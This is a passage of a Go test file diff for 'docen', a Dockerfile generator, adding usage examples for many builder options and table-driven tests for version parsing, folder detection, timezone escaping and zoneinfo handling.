@@ -2,13 +2,22 @@ package docen
 
 import (
 	"bytes"
+	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"io/fs"
 	"log"
+	"os"
+	"path"
 	"reflect"
+	"regexp"
+	"runtime/debug"
 	"strings"
+	"sync"
 	"testing"
+	"testing/fstest"
+	"time"
 )
 
 type docenMock struct{}
@@ -37,6 +46,22 @@ func ExampleDocen_SetGoVersion() {
 	docen.New().SetGoVersion("1.14.9")
 }
 
+func ExampleDocen_SetAlpineVersion() {
+	docen.New().SetGoVersion("1.21").SetAlpineVersion("3.18")
+}
+
+func ExampleDocen_SetNameSanitizer() {
+	docen.New().SetNameSanitizer(func(raw string) string {
+		return path.Base(strings.TrimSuffix(raw, "/v2"))
+	})
+}
+
+func ExampleDocen_SetVersionExtractor() {
+	docen.New().SetVersionExtractor(func(raw string) string {
+		return strings.TrimPrefix(strings.Fields(raw)[0], "go")
+	})
+}
+
 func ExampleDocen_SetPort() {
 	docen.New().SetPort("3000-4000")
 }
@@ -49,6 +74,10 @@ func ExampleDocen_SetAdditionalFolder() {
 	docen.New().SetAdditionalFolder("my-folder/some-files")
 }
 
+func ExampleDocen_SetCheckFolders() {
+	docen.New().SetCheckFolders(true).SetAdditionalFolder("migrations")
+}
+
 func ExampleDocen_SetAdditionalFile() {
 	docen.New().SetAdditionalFile("my-folder/some-files/file")
 }
@@ -57,6 +86,22 @@ func ExampleDocen_SetTestMode() {
 	docen.New().SetTestMode(true)
 }
 
+func ExampleDocen_SetInstallTzdata() {
+	docen.New().SetInstallTzdata(true)
+}
+
+func ExampleDocen_SetMinimalZoneinfo() {
+	docen.New().SetTimezone("Europe/Moscow").SetMinimalZoneinfo(true)
+}
+
+func ExampleDocen_SetTestTimeout() {
+	docen.New().SetTestMode(true).SetTestTimeout(5 * time.Minute)
+}
+
+func ExampleDocen_SetTestPackages() {
+	docen.New().SetTestMode(true).SetTestPackages("./internal/...", "./pkg/...")
+}
+
 func ExampleDocen_GenerateDockerfile() {
 	err := docen.New().GenerateDockerfile()
 	if err != nil {
@@ -64,305 +109,5444 @@ func ExampleDocen_GenerateDockerfile() {
 	}
 }
 
-func Test_getVersion(t *testing.T) {
+func ExampleDocen_SetBuildVCS() {
+	stamp := false
+	docen.New().SetBuildVCS(&stamp)
+}
+
+func ExampleDocen_SetReproducible() {
+	docen.New().SetReproducible(true).SetImageDigest("sha256:0123456789abcdef")
+}
+
+func ExampleDocen_SetImageDigest() {
+	docen.New().SetImageDigest("sha256:0123456789abcdef")
+}
+
+func ExampleDocen_SetStrictMode() {
+	docen.New().SetStrictMode(true)
+}
+
+func ExampleDocen_SetOS() {
+	docen.New().SetOS("wasip1").SetArch("wasm")
+}
+
+func ExampleDocen_SetArch() {
+	docen.New().SetArch("arm64")
+}
+
+func ExampleDocen_SetGoArm() {
+	docen.New().SetArch("arm").SetGoArm("7")
+}
+
+func ExampleDocen_SetBuildDate() {
+	docen.New().SetBuildDate(true)
+}
+
+func ExampleDocen_SetApkUpdate() {
+	docen.New().SetApkUpdate(false)
+}
+
+func ExampleDocen_SetEntrypointScript() {
+	docen.New().SetEntrypointScript("#!/bin/sh\nexec /app \"$@\"\n")
+}
+
+func ExampleDocen_SetPortFromConfig() {
+	docen.New().SetPortFromConfig("config/config.yaml", "server.port")
+}
+
+func ExampleDocen_SetPortFromEnv() {
+	docen.New().SetPortFromEnv(true)
+}
+
+func ExampleDocen_SetDefaultPort() {
+	docen.New().SetDefaultPort("8080")
+}
+
+func ExampleDocen_SetAlignColumns() {
+	docen.New().SetAlignColumns(true)
+}
+
+func ExampleDocen_SetGoPath() {
+	docen.New().SetGoPath("/go")
+}
+
+func ExampleDocen_SetGoCache() {
+	docen.New().SetGoCache("/cache/go-build")
+}
+
+func ExampleDocen_SetGoNoSumDB() {
+	docen.New().SetGoNoSumDB("github.com/company/*")
+}
+
+func ExampleDocen_SetGoInsecure() {
+	docen.New().SetGoInsecure("git.company.local")
+}
+
+func ExampleDocen_SetBuilderEnv() {
+	docen.New().SetBuilderEnv(map[string]string{
+		"GOPROXY":   "https://proxy.company.local,direct",
+		"GOPRIVATE": "github.com/company/*",
+	})
+}
+
+func ExampleDocen_SetTelemetryOff() {
+	docen.New().SetTelemetryOff(true)
+}
+
+func ExampleDocen_SetLegacyBuilder() {
+	docen.New().SetCacheMount(true).SetLegacyBuilder(true)
+}
+
+func ExampleDocen_SetCacheMount() {
+	docen.New().SetCacheMount(true)
+}
+
+func ExampleDocen_SetUser() {
+	docen.New().SetUser("gopher")
+}
+
+func ExampleDocen_SetGroup() {
+	docen.New().SetUser("gopher").SetGroup("gophers")
+}
+
+func ExampleDocen_SetSupplementaryGroups() {
+	docen.New().SetSupplementaryGroups("audio", "video")
+}
+
+func ExampleDocen_SetNumericUser() {
+	docen.New().SetNumericUser(10001)
+}
+
+func ExampleDocen_SetDebugBuild() {
+	docen.New().SetDebugBuild(true)
+}
+
+func ExampleDocen_SetHermeticBuild() {
+	docen.New().SetHermeticBuild(true)
+}
+
+func ExampleDocen_SetArches() {
+	docen.New().SetArches("amd64", "arm64")
+}
+
+func ExampleDocen_SetEnvFromHost() {
+	docen.New().SetEnvFromHost("CI_COMMIT_SHA", "COMMIT_SHA")
+}
+
+func ExampleDocen_SetRuntimeOnlyFolders() {
+	docen.New().SetRuntimeOnlyFolders(true)
+}
+
+func ExampleDocen_SetMinimizeLayers() {
+	docen.New().SetMinimizeLayers(true)
+}
+
+func ExampleDocen_SetHealthcheckBinary() {
+	docen.New().SetHealthcheckBinary("/go/bin/grpc_health_probe", "-addr=:50051")
+}
+
+func ExampleDocen_SetFolderIgnore() {
+	docen.New().SetFolderIgnore("config")
+}
+
+func ExampleDocen_GenerateDockerignore() {
+	err := docen.New().GenerateDockerignore()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_GenerateImageSpec() {
+	err := docen.New().SetPort("3000").GenerateImageSpec()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_GenerateComposeFile() {
+	err := docen.New().SetPort("8080").SetComposeModCacheVolume("gomodcache").GenerateComposeFile()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_SetHTTPHealthcheck() {
+	docen.New().SetPort("8080").SetHTTPHealthcheck("/healthz")
+}
+
+func ExampleDocen_SetCombineCopies() {
+	docen.New().SetCombineCopies(true)
+}
+
+func ExampleDocen_SetVerboseBuild() {
+	docen.New().SetVerboseBuild(true).SetBuildTrace(true)
+}
+
+func ExampleDocen_SetGcflags() {
+	docen.New().SetGcflags("-m")
+}
+
+func ExampleDocen_SetBuildParallelism() {
+	docen.New().SetBuildParallelism(2)
+}
+
+func ExampleDocen_SetCGO() {
+	docen.New().SetCGO(true)
+}
+
+func ExampleDocen_GenerateDockerfileVariants() {
+	err := docen.New().SetPort("8080").GenerateDockerfileVariants("Dockerfile", "Dockerfile.debug")
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_GenerateDockerfileIfChanged() {
+	written, err := docen.New().GenerateDockerfileIfChanged()
+	if err != nil {
+		log.Fatal(err)
+	}
+	if written {
+		log.Println("Dockerfile is updated")
+	}
+}
+
+func ExampleDocen_Bytes() {
+	data, err := docen.New().Bytes()
+	if err != nil {
+		log.Fatal(err)
+	}
+	log.Println(len(data))
+}
+
+func ExampleDocen_SetAutoCGO() {
+	docen.New().SetAutoCGO(true)
+}
+
+func ExampleDocen_SetTinyGo() {
+	docen.New().SetTinyGo(true)
+}
+
+func ExampleDocen_SetPrebuildStd() {
+	docen.New().SetPrebuildStd(true)
+}
+
+func ExampleDocen_SetAppVersionArg() {
+	docen.New().SetAppVersionArg("main.version")
+}
+
+func ExampleDocen_AddPreBuildCommand() {
+	docen.New().AddPreBuildCommand("make assets").AddPreBuildCommand("go run ./tools/embed")
+}
+
+func ExampleDocen_AddPostBuildCommand() {
+	docen.New().AddPostBuildCommand("strip /app")
+}
+
+func ExampleDocen_SetCacheBustArg() {
+	docen.New().SetCacheBustArg(true)
+}
+
+func ExampleDocen_SetAtomicBuild() {
+	docen.New().SetAtomicBuild(true)
+}
+
+func ExampleDocen_SetDownloadRetries() {
+	docen.New().SetDownloadRetries(3)
+}
+
+func ExampleDocen_SetSeparateDepsStage() {
+	docen.New().SetSeparateDepsStage(true)
+}
+
+func ExampleDocen_SetGoGenerate() {
+	docen.New().SetGoGenerate(true)
+}
+
+func ExampleDocen_SetBuildOutput() {
+	docen.New().SetBuildOutput("/build/app")
+}
+
+func ExampleDocen_SetInstallDir() {
+	docen.New().SetInstallDir("/usr/local/bin")
+}
+
+func ExampleDocen_SetUseInstall() {
+	docen.New().SetUseInstall(true)
+}
+
+func ExampleDocen_SetVerifyStatic() {
+	docen.New().SetVerifyStatic(true)
+}
+
+func ExampleDocen_SetBinaryName() {
+	docen.New().SetBinaryName("server")
+}
+
+func ExampleDocen_SetEntrypointArgs() {
+	docen.New().SetEntrypointArgs("--config", "/app/config/config.yaml")
+}
+
+func ExampleDocen_SetAdditionalFoldersFromFile() {
+	docen.New().SetAdditionalFoldersFromFile("docker-folders.txt")
+}
+
+func ExampleDocen_SetApkPackageVersion() {
+	docen.New().SetApkPackageVersion("git", "2.43.0-r0")
+}
+
+func ExampleDocen_SetSymlinks() {
+	docen.New().SetSymlinks("serve", "migrate")
+}
+
+func ExampleDocen_SetArtifactOnly() {
+	docen.New().SetArtifactOnly(true)
+}
+
+func ExampleDocen_SetMinimalTLS() {
+	docen.New().SetMinimalTLS(true)
+}
+
+func ExampleDocen_SetArtifactPath() {
+	docen.New().SetArtifactOnly(true).SetArtifactPath("/out")
+}
+
+func ExampleDocen_SetNsswitch() {
+	docen.New().SetNsswitch(true)
+}
+
+func ExampleDocen_SetGoDebug() {
+	docen.New().SetGoDebug("netdns=go")
+}
+
+func ExampleDocen_AddAssetStage() {
+	docen.New().
+		AddAssetStage("frontend", "node:20-alpine", [2]string{"/frontend/dist", "/app/static"}).
+		AddAssetStageCommand("frontend", "npm ci").
+		AddAssetStageCommand("frontend", "npm run build")
+}
+
+func ExampleDocen_SetAppDirOwner() {
+	docen.New().SetAppDirOwner(true)
+}
+
+func ExampleDocen_SetAppDirMode() {
+	docen.New().SetAppDirMode("0750")
+}
+
+func ExampleDocen_SetUmask() {
+	docen.New().SetUmask("027")
+}
+
+func ExampleDocen_SetHeaderComment() {
+	docen.New().SetHeaderComment(true)
+}
+
+func ExampleDocen_SetHeaderTimestamp() {
+	docen.New().SetHeaderComment(true).SetHeaderTimestamp(true)
+}
+
+func ExampleDocen_SetBinaryMode() {
+	docen.New().SetBinaryMode("0755")
+}
+
+func ExampleDocen_SetDiagnostics() {
+	docen.New().SetDiagnostics(true)
+}
+
+func ExampleDocen_SetIncludeLicense() {
+	docen.New().SetIncludeLicense("")
+}
+
+func ExampleDocen_SetModMode() {
+	docen.New().SetModMode("readonly")
+}
+
+func ExampleDocen_SaveConfig() {
+	err := docen.New().SetPort("3000").SaveConfig("docen.json")
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleLoadConfig() {
+	d, err := LoadConfig("docen.json")
+	if err != nil {
+		log.Fatal(err)
+	}
+	err = d.GenerateDockerfile()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_SetConfigFile() {
+	err := docen.New().SetFS(os.DirFS("path/to/project")).SetConfigFile("docen.json").GenerateDockerfile()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_AddRemoteFile() {
+	docen.New().AddRemoteFile("https://example.com/GeoLite2-City.mmdb", "/data/GeoLite2-City.mmdb")
+}
+
+func ExampleDocen_AddBuilderArtifact() {
+	docen.New().
+		AddPostBuildCommand("/app -print-config > /app/config.generated.yaml").
+		AddBuilderArtifact("/app/config.generated.yaml", "/etc/app/config.yaml")
+}
+
+func ExampleDocen_SetCrossCC() {
+	docen.New().SetCGO(true).SetArch("arm64").SetCrossCC("aarch64-linux-musl-gcc", "aarch64-linux-musl-cross")
+}
+
+func ExampleDocen_SetWritablePaths() {
+	docen.New().SetWritablePaths("/app/data")
+}
+
+func ExampleDocen_SetReadOnlyRootFSHint() {
+	docen.New().SetReadOnlyRootFSHint(true).SetWritablePaths("/app/data")
+}
+
+func ExampleDocen_SetUseCMDInsteadOfEntrypoint() {
+	docen.New().SetUseCMDInsteadOfEntrypoint(true)
+}
+
+func ExampleDocen_SetPassthroughEntrypoint() {
+	docen.New().SetPassthroughEntrypoint("/app serve --config /app/config")
+}
+
+func ExampleDocen_SetFS() {
+	err := docen.New().SetFS(os.DirFS("path/to/project")).GenerateDockerfile()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_SetOutputDir() {
+	err := docen.New().SetFS(os.DirFS("path/to/project")).SetOutputDir("path/to/project").GenerateDockerfile()
+	if err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleDocen_SetHooks() {
+	docen.New().SetHooks(Hooks{RuntimeVersion: func() string { return "go1.16" }})
+}
+
+func TestDocen_getVersion(t *testing.T) {
 	oldRuntimeVersion := runVer
 	defer func() {
-		runVer = oldRuntimeVersion
+		runVer = oldRuntimeVersion
+	}()
+
+	tests := []struct {
+		name           string
+		want           string
+		runtimeVersion func() string
+	}{
+		{
+			name:           "default version",
+			want:           defaultTagVersion,
+			runtimeVersion: func() string { return "without version" },
+		},
+		{
+			name:           "runtime version",
+			want:           "1.13-" + defaultTagVersion,
+			runtimeVersion: func() string { return "go1.13" },
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			runVer = tt.runtimeVersion
+			if got := new(Docen).getVersion(); got != tt.want {
+				t.Errorf("getVersion() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetVersionExtractor(t *testing.T) {
+	const devel = "devel go1.22-abc123 Tue Jan 2 15:04:05 2024 +0000"
+	develExtractor := func(raw string) string {
+		return regexp.MustCompile(`go(1\.[0-9]+)`).FindStringSubmatch(raw)[1]
+	}
+
+	tests := []struct {
+		name           string
+		d              *Docen
+		runtimeVersion string
+		want           string
+	}{
+		{
+			name:           "default extractor",
+			d:              New(),
+			runtimeVersion: "go1.13",
+			want:           "1.13-" + defaultTagVersion,
+		},
+		{
+			name:           "default extractor with devel runtime",
+			d:              New(),
+			runtimeVersion: devel,
+			want:           "1.22123215040520240000-" + defaultTagVersion,
+		},
+		{
+			name:           "custom extractor with devel runtime",
+			d:              New().SetVersionExtractor(develExtractor),
+			runtimeVersion: devel,
+			want:           "1.22-" + defaultTagVersion,
+		},
+		{
+			name:           "empty version",
+			d:              New().SetVersionExtractor(func(raw string) string { return "" }),
+			runtimeVersion: "go1.13",
+			want:           defaultTagVersion,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.d.SetHooks(Hooks{RuntimeVersion: func() string { return tt.runtimeVersion }})
+			var got string
+			runProject(t, fakeProject{}, func() error {
+				var err error
+				got, err = tt.d.Render()
+				return err
+			})
+			if want := fmt.Sprintf("FROM golang:%s as builder\n", tt.want); !strings.Contains(got, want) {
+				t.Errorf("Render() = %q, want %q", got, want)
+			}
+		})
+	}
+}
+
+type fakeFolder struct {
+	fs.FileInfo
+	name string
+}
+
+func (f *fakeFolder) Name() string {
+	return f.name
+}
+
+func (f *fakeFolder) IsDir() bool {
+	return true
+}
+
+type fakeFile struct {
+	fs.FileInfo
+	name string
+}
+
+func (f *fakeFile) Name() string {
+	return f.name
+}
+
+func (f *fakeFile) IsDir() bool {
+	return false
+}
+
+func TestDocen_getFolders(t *testing.T) {
+	oldReadDir := readDir
+	defer func() {
+		readDir = oldReadDir
+	}()
+
+	tests := []struct {
+		name    string
+		want    additionalInfo
+		readDir func(dirname string) ([]fs.FileInfo, error)
+	}{
+		{
+			name:    "failed read dir",
+			want:    map[string]bool{},
+			readDir: func(dirname string) ([]fs.FileInfo, error) { return nil, errors.New("fake error") },
+		},
+		{
+			name:    "empty dir",
+			want:    map[string]bool{},
+			readDir: func(dirname string) ([]fs.FileInfo, error) { return []fs.FileInfo{}, nil },
+		},
+		{
+			name: "with folders",
+			want: map[string]bool{
+				"assets": true,
+				"static": true,
+				"config": true,
+			},
+			readDir: func(dirname string) ([]fs.FileInfo, error) {
+				return []fs.FileInfo{
+					&fakeFolder{name: "assets"},
+					&fakeFolder{name: "static"},
+					&fakeFolder{name: "config"},
+				}, nil
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			readDir = tt.readDir
+			if got := New().getFolders(); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("getFolders() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_hasVendorFolder(t *testing.T) {
+	oldReadDir := readDir
+	defer func() {
+		readDir = oldReadDir
+	}()
+
+	tests := []struct {
+		name    string
+		want    bool
+		readDir func(dirname string) ([]fs.FileInfo, error)
+	}{
+
+		{
+			name:    "failed read dir",
+			want:    false,
+			readDir: func(dirname string) ([]fs.FileInfo, error) { return nil, errors.New("fake error") },
+		},
+		{
+			name:    "empty dir",
+			want:    false,
+			readDir: func(dirname string) ([]fs.FileInfo, error) { return []fs.FileInfo{}, nil },
+		},
+		{
+			name: "without vendor folder",
+			want: false,
+			readDir: func(dirname string) ([]fs.FileInfo, error) {
+				return []fs.FileInfo{
+					&fakeFolder{name: "static"},
+					&fakeFolder{name: "config"},
+				}, nil
+			},
+		},
+		{
+			name: "with vendor folder",
+			want: true,
+			readDir: func(dirname string) ([]fs.FileInfo, error) {
+				return []fs.FileInfo{
+					&fakeFolder{name: "config"},
+					&fakeFolder{name: "vendor"},
+				}, nil
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			readDir = tt.readDir
+			if got := new(Docen).hasVendorFolder(); got != tt.want {
+				t.Errorf("hasVendorFolder() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func Test_parsePackageName(t *testing.T) {
+	tests := []struct {
+		name   string
+		reader io.Reader
+		want   string
+	}{
+		{
+			name:   "failed read",
+			reader: bytes.NewReader(nil),
+			want:   defaultAppName,
+		},
+		{
+			name:   "module name with quotation marks",
+			reader: strings.NewReader(`module "testmodulename"`),
+			want:   "testmodulename",
+		},
+		{
+			name:   "module name without quotation marks",
+			reader: strings.NewReader(`module testmodulename`),
+			want:   "testmodulename",
+		},
+		{
+			name:   "module name with url",
+			reader: strings.NewReader(`module github.com/lobz1g/docen`),
+			want:   "docen",
+		},
+		{
+			name:   "empty module name",
+			reader: strings.NewReader(`module `),
+			want:   defaultAppName,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := parsePackageName(tt.reader); got != tt.want {
+				t.Errorf("parsePackageName() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestNew(t *testing.T) {
+	oldReadDir := readDir
+	oldRuntimeVersion := runVer
+	defer func() {
+		runVer = oldRuntimeVersion
+		readDir = oldReadDir
+	}()
+	runVer = func() string { return "go1.13" }
+	readDir = func(dirname string) ([]fs.FileInfo, error) { return []fs.FileInfo{}, nil }
+
+	want := &Docen{
+		additionFolders: newAdditionalInfo(),
+		additionFiles:   newAdditionalInfo(),
+		detectFolders:   true,
+	}
+
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := New(); !reflect.DeepEqual(got, want) {
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+}
+
+func TestDocen_SetGoVersion(t *testing.T) {
+	want := &Docen{
+		version: "1.13-alpine",
+	}
+
+	d := &Docen{}
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetGoVersion("1.13"); !reflect.DeepEqual(got, want) {
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+
+}
+
+func TestDocen_SetAlpineVersion(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want []string
+	}{
+		{
+			name: "after go version",
+			d:    New().SetGoVersion("1.21").SetAlpineVersion("3.18"),
+			want: []string{"FROM golang:1.21-alpine3.18 as builder\n"},
+		},
+		{
+			name: "before go version",
+			d:    New().SetAlpineVersion("3.18").SetGoVersion("1.21"),
+			want: []string{"FROM golang:1.21-alpine3.18 as builder\n"},
+		},
+		{
+			name: "unknown go version",
+			d:    (&Docen{version: defaultTagVersion}).SetAlpineVersion("3.18"),
+			want: []string{"FROM golang:alpine3.18 as builder\n"},
+		},
+		{
+			name: "image digest",
+			d:    New().SetGoVersion("1.21").SetAlpineVersion("3.18").SetReproducible(true).SetImageDigest("sha256:abc"),
+			want: []string{"FROM golang:1.21-alpine3.18@sha256:abc as builder\n"},
+		},
+		{
+			name: "alpine final image",
+			d:    New().SetGoVersion("1.21").SetAlpineVersion("3.18").SetCGO(true),
+			want: []string{"FROM golang:1.21-alpine3.18 as builder\n", "FROM alpine:3.18\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, nil)
+		})
+	}
+}
+
+func TestDocen_SetPort(t *testing.T) {
+	want := &Docen{
+		port: "3000",
+	}
+
+	d := &Docen{}
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetPort("3000"); !reflect.DeepEqual(got, want) {
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+}
+
+func TestDocen_SetTimezone(t *testing.T) {
+	want := &Docen{
+		timezone: "Time/Zone",
+	}
+
+	d := &Docen{}
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetTimezone("Time/Zone"); !reflect.DeepEqual(got, want) {
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+}
+
+func TestDocen_SetAdditionalFolder(t *testing.T) {
+	want := &Docen{
+		additionFolders: map[string]bool{
+			"test":   true,
+			"folder": true,
+		},
+	}
+
+	d := &Docen{
+		additionFolders: newAdditionalInfo(),
+	}
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetAdditionalFolder("test").SetAdditionalFolder("folder"); !reflect.DeepEqual(got, want) {
+
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+
+}
+
+func TestDocen_SetAdditionalFile(t *testing.T) {
+	want := &Docen{
+		additionFolders: map[string]bool{
+			"test":   true,
+			"folder": true,
+		},
+		additionFiles: map[string]bool{
+			"test/file1":   true,
+			"folder/file2": true,
+		},
+	}
+
+	d := &Docen{
+		additionFolders: newAdditionalInfo(),
+		additionFiles:   newAdditionalInfo(),
+	}
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetAdditionalFile("test/file1").SetAdditionalFile("folder/file2"); !reflect.DeepEqual(got, want) {
+
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+
+}
+
+func TestDocen_SetCheckFolders(t *testing.T) {
+	tests := []struct {
+		name     string
+		d        *Docen
+		existing []string
+		wantWarn string
+		wantErr  bool
+	}{
+		{
+			name:     "all folders exist",
+			d:        New().SetCheckFolders(true).SetAdditionalFolder("migrations").SetAdditionalFolder("web/static"),
+			existing: []string{"migrations", "web/static"},
+		},
+		{
+			name:     "missing folders",
+			d:        New().SetCheckFolders(true).SetAdditionalFolder("migrations").SetAdditionalFolder("docs"),
+			existing: []string{"migrations"},
+			wantWarn: "additional folders are not found: docs",
+		},
+		{
+			name:     "missing folder of file",
+			d:        New().SetCheckFolders(true).SetAdditionalFolder("migrations").SetAdditionalFile("config/app.yaml"),
+			existing: []string{"migrations"},
+			wantWarn: "additional folders are not found: config",
+		},
+		{
+			name:     "missing folders in strict mode",
+			d:        New().SetCheckFolders(true).SetStrictMode(true).SetAdditionalFolder("docs"),
+			existing: []string{},
+			wantErr:  true,
+		},
+		{
+			name:     "disabled",
+			d:        New().SetStrictMode(true).SetAdditionalFolder("docs"),
+			existing: []string{},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var warned string
+			tt.d.SetHooks(Hooks{
+				ReadDir: func(dirname string) ([]fs.FileInfo, error) {
+					for _, v := range tt.existing {
+						if dirname == v {
+							return nil, nil
+						}
+					}
+					if dirname == "./" {
+						return []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "main.go"}}, nil
+					}
+					return nil, errors.New("fake error")
+				},
+				OpenFile: func(name string) (io.ReadCloser, error) {
+					if name == "main.go" {
+						return io.NopCloser(strings.NewReader("package main\n")), nil
+					}
+					return nil, errors.New("fake error")
+				},
+				Warn: func(format string, v ...interface{}) { warned = fmt.Sprintf(format, v...) },
+			})
+
+			_, err := tt.d.render()
+			if (err != nil) != tt.wantErr {
+				t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if warned != tt.wantWarn {
+				t.Errorf("render() warned = %q, want %q", warned, tt.wantWarn)
+			}
+		})
+	}
+}
+
+func TestDocen_SetAdditionalFoldersFromFile(t *testing.T) {
+	openFile := func(name string) (io.ReadCloser, error) {
+		if name != "folders.txt" {
+			return nil, errors.New("fake error")
+		}
+		return io.NopCloser(strings.NewReader("# folders of the image\nweb/static\n\n  migrations  \ndocs\n")), nil
+	}
+
+	tests := []struct {
+		name    string
+		path    string
+		want    map[string]bool
+		wantErr bool
+	}{
+		{
+			name: "folders",
+			path: "folders.txt",
+			want: map[string]bool{"web/static": true, "migrations": true, "docs": true},
+		},
+		{
+			name:    "missing file",
+			path:    "missing.txt",
+			want:    map[string]bool{},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := (&Docen{additionFolders: newAdditionalInfo()}).SetHooks(Hooks{OpenFile: openFile})
+			d.SetAdditionalFoldersFromFile(tt.path)
+			if !reflect.DeepEqual(d.additionFolders, additionalInfo(tt.want)) {
+				t.Errorf("SetAdditionalFoldersFromFile() folders = %v, want %v", d.additionFolders, tt.want)
+			}
+			if (d.err != nil) != tt.wantErr {
+				t.Errorf("SetAdditionalFoldersFromFile() error = %v, wantErr %v", d.err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestDocen_SetInstallTzdata(t *testing.T) {
+	zoneinfo := "COPY --from=builder /usr/share/zoneinfo /usr/share/zoneinfo\n"
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{zoneinfo},
+		},
+		{
+			name:  "disabled",
+			d:     New().SetInstallTzdata(false),
+			wantN: []string{zoneinfo},
+		},
+		{
+			name: "enabled",
+			d:    New().SetInstallTzdata(true),
+			want: []string{"FROM scratch\n" + zoneinfo},
+		},
+		{
+			name: "timezone",
+			d:    New().SetTimezone("Europe/Moscow"),
+			want: []string{zoneinfo, "ENV TZ=Europe/Moscow\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_timezoneEnv(t *testing.T) {
+	tests := []struct {
+		name     string
+		timezone string
+		want     string
+	}{
+		{
+			name:     "normal zone",
+			timezone: "Europe/Moscow",
+			want:     "ENV TZ=Europe/Moscow\n",
+		},
+		{
+			name:     "zone with offset",
+			timezone: "Etc/GMT+3",
+			want:     "ENV TZ=Etc/GMT+3\n",
+		},
+		{
+			name:     "zone with space",
+			timezone: "America/New York",
+			want:     "ENV TZ=\"America/New York\"\n",
+		},
+		{
+			name:     "zone with quote",
+			timezone: `Custom/"Zone"`,
+			want:     `ENV TZ="Custom/\"Zone\""` + "\n",
+		},
+		{
+			name:     "zone with variable",
+			timezone: "A$HOME",
+			want:     `ENV TZ="A\$HOME"` + "\n",
+		},
+		{
+			name:     "zone with backslash and tab",
+			timezone: "A\\B\tC",
+			want:     "ENV TZ=\"A\\\\B\tC\"\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, New().SetTimezone(tt.timezone)), []string{tt.want}, nil)
+		})
+	}
+}
+
+func TestDocen_SetMinimalZoneinfo(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "minimal",
+			d:    New().SetTimezone("Europe/Moscow").SetMinimalZoneinfo(true),
+			want: []string{
+				"COPY --from=builder /usr/share/zoneinfo/Europe/Moscow /usr/share/zoneinfo/Europe/Moscow\n",
+				"ENV TZ=Europe/Moscow\n",
+			},
+			wantN: []string{"COPY --from=builder /usr/share/zoneinfo /usr/share/zoneinfo\n"},
+		},
+		{
+			name:  "without timezone",
+			d:     New().SetMinimalZoneinfo(true),
+			wantN: []string{"zoneinfo"},
+		},
+		{
+			name:  "tzdata",
+			d:     New().SetTimezone("Europe/Moscow").SetMinimalZoneinfo(true).SetInstallTzdata(true),
+			want:  []string{"COPY --from=builder /usr/share/zoneinfo /usr/share/zoneinfo\n"},
+			wantN: []string{"/usr/share/zoneinfo/Europe/Moscow"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetTestMode(t *testing.T) {
+	want := &Docen{
+		isTestMode: true,
+	}
+
+	d := &Docen{}
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetTestMode(true); !reflect.DeepEqual(got, want) {
+			t.Errorf("New() = %v, want %v", got, want)
+		}
+	})
+
+}
+
+func TestDocen_SetTestPackages(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "default",
